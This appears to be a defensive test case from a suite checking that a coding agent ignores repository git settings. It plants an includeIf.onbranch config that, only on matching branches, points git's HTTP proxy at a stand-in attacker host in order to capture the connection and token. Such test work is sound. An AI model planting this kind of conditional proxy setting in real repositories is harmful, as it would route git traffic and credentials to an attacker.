from pathlib import Path

from tests.attacks.git_world import Places, configure

TITLE = "A setting that holds on some branches only"
TRIES = "includeIf.onbranch: what a look at the configuration shows depends on HEAD."
MUST_FAIL = "No configuration of the agent's is read."
GAINS = ("connection", "token")


def attack(checkout: Path, places: Places) -> None:
    places.lair.mkdir()
    (places.lair / "more").write_text(f"[http]\n\tproxy = {places.evil}\n")
    configure(checkout, "includeIf.onbranch:m**.path", places.lair / "more")
    (checkout / ".git/HEAD").write_text("ref: refs/heads/main\n")
    refs = checkout / ".git/refs/heads"
    refs.mkdir(parents=True, exist_ok=True)
    (refs / "main").write_text(places.base + "\n")
